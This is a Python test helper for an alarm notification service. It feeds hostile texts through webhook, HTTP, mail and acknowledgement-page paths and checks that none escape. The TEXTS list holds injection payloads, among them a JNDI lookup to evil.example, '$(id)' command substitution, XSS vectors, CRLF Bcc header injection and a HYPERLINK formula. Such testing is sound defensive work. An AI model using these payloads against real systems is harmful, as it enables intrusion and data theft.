"""Texts that somebody gives a device, an alarm or a comment so that a channel, a template or a page takes them for something else."""

import json
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import msgspec
from aiohttp.test_utils import TestClient, TestServer
from aiohttp.web import Application

from alerts.ack_link import PATH
from alerts.channel_set import open_channels
from alerts.channels.smtp import MailServer, Smtp
from alerts.message import MessageDocument
from alerts.notify_file import NotifyFile
from alerts.sms import unaccented
from ioc.api.ack_page import AckPage, LinkedMessage
from ioc.domain.alarm import Alarm, OutboxMessage, Severity
from notifying.gateway import Gateway
from notifying.stage import Stage
from notifying.surroundings import around

SECRET = "canary-7f3a"  # noqa: S105  not anybody's
TEXTS = (
    "{secret.api}", "{access_token}", "{to}", "{text}", "{text:3}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}",
    "{0.__class__.__mro__}", "{device.__init__.__globals__}", "%(secret)s", "%s%n", "${jndi:ldap://evil.example/a}", "$(id)", "`id`",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'-alert(1)-'", "</p><form action=//evil>",
    "javascript:alert(1)", "&lt;b&gt;", "<!--", "]]>", "\r\nBcc: evil@evil.example", "a\nX-Injected: 1", "\r\n\r\n<html>", "a\x00b",
    "&to=evil&key=1", "?a=b#c", "a=b;c=d", '","to":"evil"', '\\",\\"x', "\\u0022", '=HYPERLINK("http://evil")', "\u202egnp.exe",
    "\u2028x\u2029", "😀" * 30, "a" * 5_000,
)  # fmt: skip


def message(text: str) -> OutboxMessage:
    """About one alarm whose summary, device and unit are such a text."""
    stage = Stage({"group_wait": "0s", "group_interval": "0s"})
    stage.raise_("tt-9", summary={"vi": text, "en": text}, device=text, unit=text)
    return stage.outbox[0]


async def escaped_from(folder: Path) -> list[str]:
    """Every channel and page out of which a text got, by name."""
    (folder / "api.key").write_text(SECRET + "\n")
    found = []
    for text in TEXTS:
        sent = message(text)
        checks = [*_webhook(sent, text), *await _http(folder, sent, text), *_mail(sent), *await _page(text)]
        found += [f"{where}: {text[:60]!r}" for where in checks]
    return found


def _webhook(sent: OutboxMessage, text: str) -> Iterator[str]:
    """The document is JSON whose alarm says what it was given, and whose text stands on one line."""
    document = msgspec.json.decode(sent.body, type=MessageDocument)
    if document.alarms[0].summary != text:
        yield "webhook"
    if any(char in document.text for char in "\r\n\x00\u2028\u2029\u202e"):
        yield "message text"


async def _http(folder: Path, sent: OutboxMessage, text: str) -> list[str]:
    """Each place of a declared request holds the text and nothing else; the secret stands where it was declared, and only there."""
    gateway = Gateway()
    async with gateway.server() as server:
        for body in ({"json": '{"a": "{summary}", "b": "{to}", "s": "{secret.api}"}'}, {"form": {"a": "{summary}", "b": "{to}"}}):
            declared: dict[str, Any] = {
                "kind": "http", "url": str(server.make_url("/send")), "to": "84", "secrets": {"api": {"value_file": "api.key"}},
                "query": {"q": "{summary:200}"}, "headers": {"X-What": "{summary:200}"}, "text": {"unaccented": "true"}, **body,
            }  # fmt: skip
            notify = NotifyFile.model_validate({"channels": {"ops": declared}})
            async with open_channels(notify, around(folder, link=lambda _message: "")) as channels:
                try:
                    await channels["ops"].send(sent)
                except Exception as error:  # noqa: BLE001  a text that keeps an alarm from being told is a finding, whatever it raises
                    return [f"http, not sent: {error}"]
    found = []
    for seen in gateway.requests:
        fields = seen["json"] or seen["form"]
        if fields.get("b") != "84" or set(fields) - {"a", "b", "s"} or set(seen["query"]) != {"q"}:
            found.append("http fields")
        if SECRET in json.dumps([fields.get("a"), seen["query"], seen["headers"]]):
            found.append("http secret")
        if {"bcc", "x-injected"} & {name.lower() for name in seen["headers"]}:
            found.append("http header")
        if fields.get("a") != unaccented(text):
            found.append("http template")
    return found


def _mail(sent: OutboxMessage) -> Iterator[str]:
    """No header beyond ours, one recipient, plain text."""
    server = MailServer(host="mail.example", port=25, security="none")
    channel = Smtp(server, sender="ioc@ioc.vn", to=("an@ioc.vn",), link=lambda _message: "")
    mail: EmailMessage = channel.mail(sent)
    channel.close()
    head = mail.as_bytes().partition(b"\r\n\r\n")[0].lower()
    if b"\r\nbcc:" in head or b"\r\nx-injected:" in head or mail["To"] != "an@ioc.vn":
        yield "mail header"
    if mail.get_content_type() != "text/plain":
        yield "mail type"


class _Links:
    """A link that stands for a message with such a text, and was acknowledged by somebody of such a name."""

    def __init__(self, text: str) -> None:
        alarm = Alarm(id="a" * 24, rule="r", severity=Severity.MAJOR, family="speaker", device="d", since=0)
        self._message = LinkedMessage(text=text, by=text, alarms=[alarm])

    async def look(self, _token: str, _now: int) -> LinkedMessage:
        return self._message

    async def acknowledge(self, _token: str, _now: int, *, comment: str) -> LinkedMessage:
        del comment
        return self._message


async def _page(text: str) -> list[str]:
    """The page shows the text as text: beyond the page's own marks there is none."""
    pages, usual = await _pages_of(text), await _pages_of("x")
    return ["acknowledging page" for one, other in zip(pages, usual, strict=True) if _marks(one) != _marks(other)]


async def _pages_of(text: str) -> list[str]:
    app = Application()
    AckPage(_Links(text), language="vi", clock=lambda: 0).add_to(app.router)
    async with TestClient(TestServer(app)) as client:
        shown, done = await client.get(PATH + "token"), await client.post(PATH + "token", data={"comment": text})
        return [await shown.text(), await done.text()]


def _marks(page: str) -> list[str]:
    """The page's elements, in order."""
    return [part.partition(">")[0].partition(" ")[0] for part in page.split("<")[1:]]
